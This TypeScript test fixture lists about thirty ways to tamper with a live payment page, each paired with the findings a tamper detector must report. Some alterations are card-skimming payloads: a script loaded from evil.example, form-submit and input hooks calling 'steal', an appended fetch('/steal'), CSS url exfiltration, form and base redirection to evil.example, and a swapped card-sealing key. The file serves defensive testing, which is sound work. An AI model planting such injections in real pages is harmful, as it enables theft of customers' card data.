import type { Passing, Tamper } from './tampering-proxy.ts';

/** One way to alter a live pay page, and exactly the findings that it must cause. */
export type Tampering = { readonly name: string; readonly tamper: Tamper; readonly says: RegExp[] };

const onPage =
  (tamper: Tamper): Tamper =>
  (passing) => {
    if (passing.headers.get('content-type')?.startsWith('text/html')) tamper(passing);
  };
const onFile =
  (file: RegExp, tamper: Tamper): Tamper =>
  (passing) => {
    if (file.test(passing.path)) tamper(passing);
  };

/** Throws if there is nothing to replace, because nothing would be tampered with. */
function replace(passing: Passing, text: string, by: string): void {
  if (!passing.body.includes(text)) throw new Error(`nothing to alter: ${text}`);
  passing.body = passing.body.replace(text, () => by);
}
const replacing = (text: string, by: string) => onPage((passing) => replace(passing, text, by));
const inHead = (html: string) => replacing('</head>', `${html}</head>`);
const withHeader = (name: string, value: string) =>
  onPage(({ headers }) => void headers.set(name, value));
const withoutHeader = (name: string) => onPage(({ headers }) => void headers.delete(name));

const policy = 'content-security-policy';
const withPolicy = (change: (policy: string) => string) =>
  onPage(({ headers }) => {
    const is = headers.get(policy) ?? '';
    if (change(is) === is) throw new Error('the policy stays as it is');
    headers.set(policy, change(is));
  });

export const tamperings: readonly Tampering[] = [
  {
    name: 'a script from another host',
    tamper: inHead('<script src="https://evil.example/skim.js"></script>'),
    says: [
      /differs from this release’s from line \d+ on; it contains a script file; it reads “<script src="https:\/\/evil\.example\/skim\.js"><\/script>”; this release has nothing there$/,
    ],
  },
  {
    name: 'an inline script',
    tamper: inHead('<script>document.forms[0].onsubmit=steal</script>'),
    says: [/it contains a script; it reads “<script>document\.forms\[0\]/],
  },
  {
    name: 'an event handler',
    tamper: replacing('<div id="root">', '<div id="root" oninput="steal(event)">'),
    says: [/it contains an event handler; it reads “<div id="root" oninput=/],
  },
  {
    name: 'a script for readers of French alone',
    tamper: onPage((passing) => {
      if (!passing.languages.startsWith('fr')) return;
      replace(passing, '</head>', '<script>0</script></head>');
    }),
    says: [
      /for readers of French, the HTML differs from this release’s .* it contains a script; it reads/,
    ],
  },
  {
    name: 'another key for readers of French alone',
    tamper: onPage((passing) => {
      if (!passing.languages.startsWith('fr')) return;
      replace(passing, '"publicKey":"-----BEGIN', '"publicKey":"evil-----BEGIN');
    }),
    says: [/^\/getCompanyData: for readers of French, the public key for sealing cards/],
  },
  {
    name: 'other bytes in the script',
    tamper: onFile(/\/pay-[^/]*\.js$/, (passing) => (passing.body += ';fetch("/steal")')),
    says: [
      /^\/assets\/pay-[\w-]+\.js: the script differs from the built one: SHA-256 [0-9a-f]{64}/,
    ],
  },
  {
    name: 'other bytes in the words of a language',
    tamper: onFile(/\/french-[^/]*\.js$/, (passing) => (passing.body += ';fetch("/steal")')),
    says: [
      /^\/assets\/french-[\w-]+\.js: the script differs from the built one: SHA-256 [0-9a-f]{64}/,
    ],
  },
  {
    name: 'other bytes in the program for readers of French alone',
    tamper: onFile(/\/pay-[^/]*\.js$/, (passing) => {
      if (passing.languages.startsWith('fr')) passing.body += ';fetch("/steal")';
    }),
    says: [
      /^\/assets\/pay-[\w-]+\.js: for readers of French, the script differs from the built one: SHA-256/,
    ],
  },
  {
    name: 'other bytes in the style sheet',
    tamper: replacing('</style>', 'input{background:url(/steal)}</style>'),
    says: [/differs from this release’s from line \d+ on/],
  },
  {
    name: 'no policy',
    tamper: withoutHeader(policy),
    says: [/the header content-security-policy is missing$/],
  },
  {
    name: 'a policy that allows inline scripts',
    tamper: withPolicy((is) =>
      is.replace("script-src 'self'", "script-src 'self' 'unsafe-inline'"),
    ),
    says: [/the content-security-policy allows more in script-src: “'unsafe-inline'”$/],
  },
  {
    name: 'a policy that only reports',
    tamper: onPage(({ headers }) => {
      headers.set(`${policy}-report-only`, headers.get(policy) ?? '');
      headers.delete(policy);
    }),
    says: [
      /the header content-security-policy is missing$/,
      /this release does not send the header “content-security-policy-report-only”: .* and blocks nothing\)$/,
    ],
  },
  {
    name: 'a policy with one more host',
    tamper: withPolicy((is) =>
      is.replace("connect-src 'self'", "connect-src 'self' https://evil.example"),
    ),
    says: [/the content-security-policy allows more in connect-src: “https:\/\/evil\.example”$/],
  },
  {
    name: 'a policy without Trusted Types',
    tamper: withPolicy((is) =>
      is.replace("; require-trusted-types-for 'script'; trusted-types 'none'", ''),
    ),
    says: [
      /no longer contains require-trusted-types-for 'script'$/,
      /no longer contains trusted-types 'none'$/,
    ],
  },
  {
    name: 'a policy that lets others frame the page',
    tamper: withPolicy((is) => is.replace("; frame-ancestors 'none'", '')),
    says: [/no longer contains frame-ancestors 'none'$/],
  },
  {
    name: 'a policy that lets the page frame others',
    tamper: withPolicy((is) => is.replace("frame-src 'self'", "frame-src 'self' https:")),
    says: [/the content-security-policy allows more in frame-src: “https:”$/],
  },
  {
    name: 'no nosniff',
    tamper: withoutHeader('x-content-type-options'),
    says: [/the header x-content-type-options is missing$/],
  },
  {
    name: 'another base',
    tamper: replacing('<head>', '<head><base href="https://evil.example/">'),
    says: [/it contains a base for all URLs; it reads “<base href=/],
  },
  {
    name: 'a page that redirects',
    tamper: inHead('<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    says: [/it contains an instruction to the browser \(meta http-equiv\)/],
  },
  {
    name: 'an embedded page',
    tamper: replacing('<div id="root">', '<iframe src="/x"></iframe><div id="root">'),
    says: [/it contains an embedded page; it reads “<iframe/],
  },
  {
    name: 'a form that is sent elsewhere',
    tamper: replacing('<form ', '<form action="https://evil.example/" '),
    says: [/it contains another form target; it reads “<form action=/],
  },
  {
    name: 'another public key',
    tamper: onPage((passing) =>
      replace(
        passing,
        '"publicKey":"-----BEGIN PUBLIC KEY-----\\n',
        '"publicKey":"-----BEGIN PUBLIC KEY-----\\nevil',
      ),
    ),
    says: [
      /^\/getCompanyData: the public key for sealing cards on the page is “-----BEGIN PUBLIC KEY----- evil/,
    ],
  },
  {
    name: 'another name everywhere',
    tamper: onPage((passing) => (passing.body = passing.body.replaceAll('Ti Kaye', 'Ti Kay'))),
    says: [/^\/getCompanyData: the company’s name on the page is “Ti Kay” instead of “Ti Kaye”$/],
  },
  {
    name: 'a preload from another host',
    tamper: inHead('<link rel="preload" as="script" href="https://evil.example/x.js">'),
    says: [/it contains a linked resource; it reads “<link rel="preload"/],
  },
  {
    name: 'a preload before the response',
    tamper: onPage((passing) => {
      passing.early = { link: '<https://evil.example/x.js>; rel=preload; as=script' };
    }),
    says: [
      /before the response, this release does not send the header “link”: “<https:\/\/evil\.example\/x\.js>/,
    ],
  },
  {
    name: 'a header that connects to another host',
    tamper: withHeader('link', '<https://evil.example>; rel=preconnect'),
    says: [
      /^\/PayCompany\/\w+: this release does not send the header “link”: .*rel=preconnect” \(it makes browsers load/,
    ],
  },
  {
    name: 'a redirect',
    tamper: onPage((passing) => {
      passing.status = 302;
      passing.headers.set('location', 'https://evil.example/PayCompany');
    }),
    says: [/it redirects customers to “https:\/\/evil\.example\/PayCompany” \(status 302\)$/],
  },
  {
    name: 'a cookie',
    tamper: withHeader('set-cookie', 'who=1'),
    says: [/this release does not send the header “set-cookie”: “who=1” \(it stores data/],
  },
  {
    name: 'a header that redirects',
    tamper: withHeader('refresh', '0;url=https://evil.example/'),
    says: [
      /this release does not send the header “refresh”: .* \(it redirects customers after a delay\)$/,
    ],
  },
];
